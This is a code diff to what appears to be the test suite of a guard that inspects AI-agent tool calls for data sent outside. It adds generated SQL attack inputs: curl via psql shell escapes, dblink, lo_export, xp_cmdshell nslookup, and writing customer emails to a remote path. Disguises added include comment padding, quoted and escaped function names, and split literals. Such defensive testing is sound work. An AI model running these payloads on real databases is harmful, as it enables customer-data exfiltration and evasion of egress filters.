@@ -11,18 +11,19 @@ from __future__ import annotations
 import base64
 import itertools
 import json
+import re
 from typing import TYPE_CHECKING, ClassVar, Final
 from urllib.parse import quote
 
 from guard.core.calls import Target, TracedCall
 from guard.decision import classification
-from guard.destinations import channels
+from guard.destinations import channels, sql_statements
 from guard.lab.trust.attacks import AttackClass, Attempt, Switch
 from guard.provenance.ladder import attestation_of
 from guard.rules.provenance import ProvenanceRule
 
 if TYPE_CHECKING:
-    from collections.abc import Iterator, Mapping
+    from collections.abc import Callable, Iterator, Mapping
     from random import Random
 
     from guard.core.model import Json
@@ -142,13 +143,41 @@ STATEMENTS: Final = (
     "\\! curl {host}",
     ".shell curl {host}",
 )
-DISGUISES: Final = (
-    str,
-    str.lower,
-    lambda sql: sql.replace(" ", "/**/"),
-    lambda sql: f"SELECT 1;\n{sql}",
-    lambda sql: f"WITH x AS (SELECT 1) SELECT 2; {sql} -- harmless",
+DISGUISES: Final[Mapping[str, Callable[[str], str]]] = {
+    "as it is": str,
+    "in small letters": str.lower,
+    "commented": lambda sql: sql.replace(" ", "/**/"),
+    "behind another": lambda sql: f"SELECT 1;\n{sql}",
+    "in between": lambda sql: f"WITH x AS (SELECT 1) SELECT 2; {sql} -- harmless",
+}
+FUNCTIONS: Final = (
+    ("dblink", "SELECT {f}('host={host}', 'select 1')"),
+    ("dblink_exec", "SELECT 1 WHERE {f}('host={host}', 'select 1') = ''"),
+    ("lo_export", "SELECT pg_catalog.{f}(1, '/srv/{host}')"),
+    ("query_to_xml", "SELECT {f}('select 1', true, true, '{host}')"),
+    ("pg_read_file", "SELECT {f}('/srv/{host}')"),
+    ("http_get", "SELECT {f}('{host}')"),
+    ("xp_cmdshell", "EXEC master..{f} 'nslookup {host}'"),
+    ("writefile", "SELECT {f}('/srv/{host}', mail) FROM customers"),
 )
+"""Functions that reach outside, by the statement that calls them."""
+QUOTED: Final[Mapping[str, Callable[[str], str]]] = {
+    "in quotes": lambda name: f'"{name}"',
+    "in brackets": lambda name: f"[{name}]",
+    "in backticks": lambda name: f"`{name}`",
+    "in escapes": lambda name: f'U&"\\{ord(name[0]):04x}{name[1:]}"',
+    "in long escapes": lambda name: f'u&"{name[:-1]}\\+{ord(name[-1]):06X}"',
+}
+"""How SQL lets a name be written."""
+CUT: Final = (
+    "SELECT connect('ho' || 'st={host} dbname=x')",
+    "SELECT connect('ho'||N'st={host} dbname=x')",
+    "SELECT f(name, '/n' || 'et/{host}/x') FROM customers",
+    "SELECT f(name, '/' + 'net/{host}/x') FROM customers",
+)
+"""Literals that name somebody once they are joined."""
+SQL_ARGUMENTS: Final = ("sql", "statement", "rawSQL", "sql_text", "ddl")
+"""Names of arguments that say that they are SQL."""
 READERS: Final[tuple[tuple[str, str], ...]] = (
     ("read_file", "path"),
     ("list_files", "folder"),
@@ -270,6 +299,31 @@ class Roles(AttackClass):
         Switch("what reaches somebody outside is a send", lambda p: _no_send(p)),
         Switch("ignored arguments are looked at", lambda p: _ignored(p), among=" in permission"),
         Switch("statements of SQL that reach out count", lambda p: _no_statements(p), among="SQL:"),
+        Switch(
+            "comments in SQL are blanks",
+            lambda p: p.set(sql_statements, "_COMMENT_SIGN", _NEVER),
+            among="SQL: commented",
+        ),
+        Switch(
+            "names in SQL may be quoted",
+            lambda p: p.set(sql_statements, "_QUOTED_NAME", _NEVER),
+            among="SQL: a name in",
+        ),
+        Switch(
+            "names in SQL may be spelt in escapes",
+            lambda p: p.set(sql_statements, "_ESCAPED_NAME", _NEVER),
+            among="SQL: a name in escapes",
+        ),
+        Switch(
+            "literals of SQL are joined",
+            lambda p: p.set(sql_statements, "_JOINED", _NEVER),
+            among="SQL: literals apart",
+        ),
+        Switch(
+            "verbs of SQL are a closed list",
+            lambda p: p.set(sql_statements, "_unknown", lambda _text: ""),
+            among="SQL: no known verb",
+        ),
         Switch("paths are normalised", lambda p: _as_written(p), among="../"),
         Switch("what is loaded by itself is a receiver", lambda p: _unloaded(p), among="picture:"),
         Switch("everybody is a receiver", lambda p: _closed(p), among="opened:"),
@@ -288,11 +342,7 @@ class Roles(AttackClass):
         for url, host in itertools.product(URLS[:8], HOSTS):
             text = url.format(host=host, data="balance-4711")
             yield _resource(f"{url} as a resource", text)
-        for statement, disguise, host in itertools.product(STATEMENTS, DISGUISES, HOSTS[:1]):
-            if statement.startswith(("\\", ".")) and disguise is not str:
-                continue
-            sql = disguise(statement.format(host=host))
-            yield _call(f"SQL: {statement}", "query", {"sql": sql})
+        yield from _statements(rng)
         for receiver, host, field in itertools.product(
             RECEIVERS, HOSTS[:3], ("permission", "document_id")
         ):
@@ -304,6 +354,28 @@ class Roles(AttackClass):
             arguments = {"owner": "example-org", "repo": "app", "body": "b", field: text}
             yield _call(f"{path} in {field}", "create_issue", arguments, CODING)
         yield from _posts(rng)
+
+
+def _statements(rng: Random) -> Iterator[Attempt]:
+    """Yield statements of SQL that reach outside."""
+    host = HOSTS[0]
+    for statement, (how, disguise) in itertools.product(STATEMENTS, DISGUISES.items()):
+        if statement.startswith(("\\", ".")) and disguise is not str:
+            continue
+        sql = disguise(statement.format(host=host))
+        yield _call(f"SQL: {how}: {statement}", "query", {"sql": sql})
+    for (name, statement), (how, quoted) in itertools.product(FUNCTIONS, QUOTED.items()):
+        sql = statement.format(f=quoted(name), host=host)
+        yield _call(f"SQL: a name {how}: {sql}", "query", {"sql": sql})
+    for statement in CUT:
+        sql = statement.format(host=host)
+        yield _call(f"SQL: literals apart: {sql}", "query", {"sql": sql})
+    for argument, form in itertools.product(
+        SQL_ARGUMENTS, ("{verb} customers TO {host}", "SELECT 1; {verb} {host}", "/* q */ {verb} x")
+    ):
+        verb = "".join(rng.choice("bdfgklmnprtvz") + rng.choice("aeiou") for _ in range(3))
+        sql = form.format(verb=rng.choice((verb, verb.upper())), host=host)
+        yield _call(f"SQL: no known verb in {argument}: {sql}", "query", {argument: sql})
 
 
 def _posts(rng: Random) -> Iterator[Attempt]:
@@ -357,6 +429,9 @@ def _resource(name: str, uri: str) -> Attempt:
         return (await world.agent().message("resources/read", {"uri": uri})).forwarded
 
     return Attempt(name, play)
+
+
+_NEVER: Final = re.compile("(?!)")
 
 
 def _not_searched(patch: Patch) -> None:
